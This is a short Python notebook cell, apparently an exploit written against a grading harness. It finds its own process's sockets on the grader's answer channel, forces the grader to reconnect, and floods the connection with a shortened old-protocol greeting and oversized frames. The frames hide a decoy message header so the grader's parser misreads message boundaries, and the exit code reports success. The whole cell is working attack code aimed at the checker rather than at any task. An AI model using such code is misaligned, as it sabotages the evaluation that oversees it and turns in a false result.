"""Greets the grader in an old protocol with a shorter greeting, so that what counts the parts of messages reads others than are meant."""

# %% [extra before:expose]
import os
import socket
import struct
import threading
import time

SIZE = 900_000
greeting = b"\xff" + bytes(7) + b"\x01\x7f" + b"\x01\x06" + b"\x00\x00"  # version 2.0, a router, without a name: 14 bytes, not 64
header = b"\x03" + struct.pack(">Q", SIZE)  # a part, and more is to come: what the grader's library reads
decoy = b"\x02" + struct.pack(">Q", SIZE)  # a whole message: what is read where the first 64 bytes are passed over
block = header + bytes(41) + decoy + bytes(SIZE - 50)
blocks = iter(range(150))  # for all of them together: the kernel has a connection to itself, and would drown in more
told = False


def flood(listener):
    global told
    while True:
        its, _ = listener.accept()
        told = True
        try:
            its.sendall(greeting)
            for _ in blocks:
                its.sendall(block)
        except OSError:
            its.close()


def answering():
    """Copies of this process's sockets of the channel of answers."""
    for name in os.listdir("/proc/self/fd"):
        try:
            its = socket.socket(fileno=os.dup(int(name)))
            if str(its.getsockname()).startswith("/tmp/k/s-1"):
                yield its, bool(its.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN))
        except OSError:
            continue


for its, listens in list(answering()):
    if listens:
        its.setblocking(True)
        for _ in range(8):
            threading.Thread(target=flood, args=(its,), daemon=True).start()
for _ in range(50):
    if told:
        break
    for its, listens in list(answering()):
        if not listens and not told:
            its.shutdown(socket.SHUT_RDWR)  # the grader connects again, and one of eight may be quicker than the kernel
    time.sleep(0.2)
time.sleep(3)
os._exit(43 if told else 44)
